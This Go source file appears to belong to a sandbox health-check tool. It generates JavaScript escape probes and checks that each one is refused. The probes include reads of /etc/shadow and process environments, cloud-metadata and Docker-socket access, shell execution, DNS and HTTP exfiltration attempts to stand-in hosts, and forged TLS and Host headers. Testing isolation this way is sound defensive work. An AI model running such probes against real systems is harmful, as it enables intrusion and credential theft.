package attack

import (
	"context"
	"fmt"
	"net/http"
	"strings"

	"github.com/codeforge-mcp/codeforge/catalog/secret"
)

// attempts is code that tries several expressions; each must throw within its time.
// With open, connections to anywhere lead to the proxy (YOLO_MODE): there an answer counts that is not its refusal.
func attempts(open bool, expressions ...string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "const open = %t;\n", open)
	b.WriteString(`async function reach(hostname, port) {
  const c = await Deno.connect({ hostname, port });
  if (!open) { c.close(); return "a connection"; }
  await c.write(new TextEncoder().encode("GET / HTTP/1.1\r\nHost: codeforge-doctor.invalid\r\nConnection: close\r\n\r\n"));
  const b = new Uint8Array(2000), n = await c.read(b), text = new TextDecoder().decode(b.subarray(0, n ?? 0));
  c.close();
  if (n === null || text.includes("codeforge-doctor.invalid") || /"code": ?"/.test(text)) throw new Error("the proxy refuses");
  return text;
}
const tries = {
`)
	for _, e := range expressions {
		fmt.Fprintf(&b, "  %q: async () => %s,\n", e, e)
	}
	b.WriteString(`};
for (const [name, f] of Object.entries(tries)) {
  let timer; const silence = new Promise((_, no) => { timer = setTimeout(() => no(new Error("silence")), 2500); });
  try { const r = await Promise.race([f(), silence]); console.log(JSON.stringify({ held: false, seen: name + " gave " + String(r).slice(0, 60) })); }
  catch (e) {
    const typo = e instanceof ReferenceError || e instanceof SyntaxError || e instanceof TypeError && /is not a (function|constructor)|Cannot read/.test(e.message);
    console.log(JSON.stringify({ held: !typo, seen: typo ? name + " was not tried: " + e.message : String(e?.name ?? e) }));
  }
  clearTimeout(timer);
}
`)
	return b.String()
}

// fetches is an expression that throws when the request is refused, in whatever way.
func fetches(request string) string {
	return `fetch(` + request + `).then(async (r) => { await r.body?.cancel(); if (r.status >= 400) throw new Error("refused"); return r.status; })`
}

// All lists the attacks on a target.
func All(t Target) []Attack {
	const none = "no way out"
	tries := func(name, expected string, expressions ...string) Attack {
		return Attack{Name: name, Expected: expected, Code: attempts(t.Open, expressions...)}
	}
	read := func(paths ...string) (out []string) {
		for _, p := range paths {
			out = append(out, fmt.Sprintf("Deno.readTextFile(%q)", p))
		}
		return out
	}
	list := []Attack{
		tries("a host in no API", "refused", fetches(`"https://codeforge-doctor.invalid/"`), fetches(`"http://codeforge-doctor.invalid/"`), fetches(`"https://192.0.2.1/"`),
			fetches(`"https://codeforge-doctor.invalid/", { headers: { Authorization: "Bearer CODEFORGE_DOCTOR_TOKEN" } }`)),
		tries("TCP to addresses outside", none, `reach("192.0.2.1", 443)`, `reach("198.51.100.1", 22)`, `reach("203.0.113.1", 53)`),
		tries("cloud metadata", none, `reach("169.254.169.254", 80)`, fetches(`"http://169.254.169.254/latest/meta-data/"`), fetches(`"http://metadata.google.internal/"`), fetches(`"http://100.100.100.200/"`)),
		tries("the proxy, mcp-server and the host by address", none, `reach("10.77.0.2", 8080)`, `reach("10.77.0.3", 80)`, `reach("10.77.0.1", 22)`,
			`reach("localhost", 8080)`, fetches(`"http://mcp-server:8080/mcp"`), fetches(`"http://host.docker.internal/"`), fetches(`"http://gateway.docker.internal/"`)),
		tries("IPv6", none, `reach("2001:db8::1", 443)`, `reach("::1", 8080)`, `reach("fe80::1", 80)`),
		tries("UDP", none, `import("node:dgram").then((d) => new Promise((ok, no) => { const s = d.createSocket("udp4"); s.on("error", no); s.on("message", ok); s.send("x", 53, "192.0.2.1", (e) => { if (e) no(e); }); setTimeout(() => { s.close(); no(new Error("silence")); }, 1000); }))`),
		// YOLO_MODE gives every name an address of the proxy, without asking anybody.
		tries("names that carry data", "asked for nowhere", `Deno.resolveDns("data.codeforge-doctor.invalid", "A").then((a) => { if (a.every((x) => /^(127|198\.18)\./.test(x))) throw new Error("the proxy's own address"); return a; })`, `Deno.resolveDns("data.codeforge-doctor.invalid", "TXT")`, `Deno.resolveDns("data.codeforge-doctor.invalid", "TXT", { nameServer: { ipAddr: "127.0.0.11", port: 53 } })`,
			`Deno.resolveDns("data.codeforge-doctor.invalid", "MX", { nameServer: { ipAddr: "192.0.2.1", port: 53 } })`),
		tries("imports from afar", none, `import("https://codeforge-doctor.invalid/x.js")`, `import("npm:codeforge-doctor-none")`, `import("jsr:@codeforge-doctor/none")`),
		tries("sockets of the daemons and of Docker", none, `Deno.connect({ transport: "unix", path: "/var/run/docker.sock" })`, `Deno.connect({ transport: "unix", path: "/run/codeforge/shim/docker.sock" })`, `Deno.connect({ transport: "unix", path: "/run/codeforge/control/proxy.sock" })`, `Deno.connect({ transport: "unix", path: "/run/sandboxd/sandboxd.sock" })`,
			`Deno.connect({ transport: "unix", path: "/dev/shm/run/control.sock" })`, `new Promise((ok, no) => import("node:net").then((n) => n.connect("/dev/shm/run/sandboxd.sock").on("connect", () => ok("connected")).on("error", no)))`),
		tries("reading /etc and other files", "denied", read("/etc/passwd", "/etc/shadow", "/etc/resolv.conf", "/tmp/../etc/passwd", "/skills/../etc/passwd", "/dev/shm/ca/ca.key", "/apis", "/dev/mem", "/sys/kernel/notes")...),
		tries("reading /proc", "denied", read("/proc/1/environ", "/proc/self/environ", "/proc/self/maps", "/proc/self/mountinfo", "/proc/net/tcp", "/proc/1/cmdline")...),
		{Name: "importing what tells of the machine", Expected: "not found", Code: `import text from "/proc/1/mountinfo" with { type: "text" }; console.log(text.length);`, Judge: unfound},
		tries("writing outside", "denied", `Deno.writeTextFile("/etc/x", "y")`, `Deno.writeTextFile("/runs/x", "y")`, `Deno.writeTextFile("/x", "y")`, `Deno.mkdir("/runs/codeforge-doctor")`),
		tries("environment, programs, foreign functions", "denied", `Deno.env.toObject()`, `Deno.env.get("PATH")`, `new Deno.Command("sh", { args: ["-c", "id"] }).output()`, `import("node:child_process").then((c) => c.execSync("id"))`,
			`Deno.dlopen("libc.so.6", { getpid: { parameters: [], result: "i32" } })`, `Deno.hostname()`, `Deno.networkInterfaces()`, `Deno.uid()`, `Deno.kill(1, "SIGKILL")`),
		tries("asking for more permissions", "denied", `Deno.permissions.request({ name: "run" }).then((r) => { if (r.state !== "granted") throw new Error(r.state); })`,
			`Deno.permissions.request({ name: "read", path: "/etc" }).then((r) => { if (r.state !== "granted") throw new Error(r.state); })`),
		tries("links out of /tmp and /skills", "denied", `Deno.symlink("/etc/passwd", "/tmp/codeforge-doctor-a")`, `Deno.link("/etc/passwd", "/tmp/codeforge-doctor-b")`, `Deno.symlink("/etc/passwd", "/skills/codeforge-doctor.ts")`),
		{Name: "an endless loop", Expected: "ended at its time limit", Code: "for (;;) {}", Seconds: 2, Judge: endless},
		{Name: "a flood of output", Expected: "bounded", Code: `const line = "x".repeat(1000); for (let i = 0; i < 20000; i++) console.log(line);`, Judge: short},
	}
	if !t.Open { // else code may listen, inside its own slot
		list = append(list, tries("listening for another slot", "denied", `Deno.listen({ hostname: "0.0.0.0", port: 18080 })`, `Deno.listen({ transport: "unix", path: "/tmp/codeforge-doctor.sock" })`, `Deno.serve({ port: 18082 }, () => new Response("x"))`))
	}
	for _, more := range [][]Attack{imports(), memories(t), forged(t), requests(t), outside(t)} {
		list = append(list, more...)
	}
	return list
}

// forged are attacks on the proxy itself: names in the handshake and in Host that do not belong together.
func forged(t Target) []Attack {
	if t.Host == "" {
		return nil
	}
	const verdict = `catch (e) { console.log(JSON.stringify({ held: true, seen: String(e?.name ?? e) })); }`
	// The proxy may answer under any name, so that it can say why it refuses.
	request := func(serverName string) string {
		return fmt.Sprintf(`try {
  const c = await Deno.startTls(await Deno.connect({ hostname: %q, port: 443 }), { hostname: %q });
  await c.write(new TextEncoder().encode("GET / HTTP/1.1\r\nHost: codeforge-doctor.invalid\r\nConnection: close\r\n\r\n"));
  const b = new Uint8Array(400), n = await c.read(b), line = new TextDecoder().decode(b.subarray(0, n ?? 0)).split("\r\n")[0];
  console.log(JSON.stringify({ held: / [45]\d\d /.test(line), seen: line }));
} %s`, t.Host, serverName, verdict)
	}
	return []Attack{
		{Name: "a false server name on an API's address", Expected: "refused", Code: request("codeforge-doctor.invalid")},
		{Name: "a false Host on an API's connection", Expected: "refused", Code: request(t.Host)},
		{Name: "other ports of an API's host", Expected: "no way out", Code: fmt.Sprintf(
			`for (const port of [22, 25, 8080, 8443, 2375]) { try { const c = await Promise.race([Deno.connect({ hostname: %q, port }), new Promise((_, no) => setTimeout(() => no(new Error("silence")), 2000))]); c.close(); console.log(JSON.stringify({ held: false, seen: port + " is open" })); } %s }`, t.Host, verdict)},
	}
}

// outside are attacks on the MCP endpoint.
func outside(t Target) []Attack {
	header := func(name, value string) func(*http.Request) {
		return func(r *http.Request) { r.Header.Set(name, value) }
	}
	list := []Attack{
		refused("MCP endpoint: a foreign Host (DNS rebinding)", "403", func(r *http.Request) { r.Host = "codeforge-doctor.invalid" }, http.StatusForbidden),
		refused("MCP endpoint: a web page's Origin", "403", header("Origin", "https://codeforge-doctor.invalid"), http.StatusForbidden),
		refused("MCP endpoint: a request across sites", "403", header("Sec-Fetch-Site", "cross-site"), http.StatusForbidden),
	}
	if t.Token.Empty() {
		return list
	}
	for _, b := range []struct{ name, token string }{{"no bearer", ""}, {"a wrong bearer", "codeforge-doctor"}} {
		list = append(list, Attack{Name: "MCP endpoint: " + b.name, Expected: "401", Do: func(ctx context.Context, t Target) (string, bool) {
			status, err := post(ctx, t, secret.New(b.token), func(*http.Request) {})
			return fmt.Sprint(status), err == nil && status == http.StatusUnauthorized
		}})
	}
	return list
}
